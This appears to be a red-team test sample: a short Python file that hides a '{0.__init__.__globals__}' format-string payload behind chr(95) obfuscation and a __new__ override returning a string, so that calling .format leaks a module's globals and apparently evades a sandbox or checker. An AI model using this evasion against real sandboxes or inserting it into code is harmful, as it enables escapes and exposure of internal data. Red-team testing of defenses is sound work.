# family: red team, round 60b (dataclass-like annotated format field; base __new__ returns run-time str)
U = chr(len("x" * 95)) * 2
EVIL = "{0." + U + "init" + U + "." + U + "globals" + U + "}"


class K:
    def __init__(self):
        self.v = 1


class Base:
    def __new__(cls, *args):
        return EVIL


class Opts(Base):
    format: str = "json"


opts = Opts()
print(opts.format(K()))
